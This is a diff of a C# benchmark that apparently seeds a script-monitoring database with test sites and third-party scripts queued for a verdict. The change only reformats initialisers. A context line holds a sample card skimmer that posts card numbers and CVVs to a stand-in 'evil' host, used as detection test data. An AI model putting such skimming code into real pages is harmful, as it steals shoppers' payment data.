@@ -114,29 +114,56 @@ internal static class VerdictKillBenchmark
             var source = $$"""document.addEventListener('submit', function () { fetch('https://evil{{number}}.example/c', { method: 'POST', body: document.querySelector('#cc-number').value + document.querySelector('#cvv').value }); });""";
             var site = new Site
             {
-                Name = $"Shop {number}", Hosts = [$"shop{number}.example"], StartUrls = [], ReportKey = ReportKey.New().ToString(), CreatedAt = now,
+                Name = $"Shop {number}",
+                Hosts = [$"shop{number}.example"],
+                StartUrls = [],
+                ReportKey = ReportKey.New().ToString(),
+                CreatedAt = now,
             };
             database.Sites.Add(site);
             await database.SaveChangesAsync(cancellationToken);
             var content = new ScriptContent
             {
-                Sha256 = Sha256Hash.OfText(source), Length = source.Length, Body = StoredBody.Compress(Encoding.UTF8.GetBytes(source)), FirstSeenAt = now,
+                Sha256 = Sha256Hash.OfText(source),
+                Length = source.Length,
+                Body = StoredBody.Compress(Encoding.UTF8.GetBytes(source)),
+                FirstSeenAt = now,
             };
             var url = $"https://vendor{number}.example/x.js";
             database.ScriptContents.Add(content);
             database.Scripts.Add(new Script
             {
-                SiteId = site.Id, Id = number, Kind = ScriptKind.External, Identity = Sha256Hash.OfText(url), IdentityReason = "", Url = url,
-                UrlTemplate = url, ReportTemplate = url, Host = $"vendor{number}.example", Party = Party.Third, FirstSeenAt = now, LastSeenAt = now,
-                CurrentSha256 = content.Sha256, VersionCount = 1,
+                SiteId = site.Id,
+                Id = number,
+                Kind = ScriptKind.External,
+                Identity = Sha256Hash.OfText(url),
+                IdentityReason = "",
+                Url = url,
+                UrlTemplate = url,
+                ReportTemplate = url,
+                Host = $"vendor{number}.example",
+                Party = Party.Third,
+                FirstSeenAt = now,
+                LastSeenAt = now,
+                CurrentSha256 = content.Sha256,
+                VersionCount = 1,
             });
             database.ScriptVersions.Add(new ScriptVersion
             {
-                SiteId = site.Id, ScriptId = number, Sha256 = content.Sha256, Url = url, FirstSeenAt = now, LastSeenAt = now,
+                SiteId = site.Id,
+                ScriptId = number,
+                Sha256 = content.Sha256,
+                Url = url,
+                FirstSeenAt = now,
+                LastSeenAt = now,
             });
             database.PendingJudgements.Add(new PendingJudgement
             {
-                Sha256 = content.Sha256, QueuedAt = now, NextAttemptAt = now, SiteId = site.Id, ScriptId = number,
+                Sha256 = content.Sha256,
+                QueuedAt = now,
+                NextAttemptAt = now,
+                SiteId = site.Id,
+                ScriptId = number,
             });
             await database.SaveChangesAsync(cancellationToken);
             database.ChangeTracker.Clear();
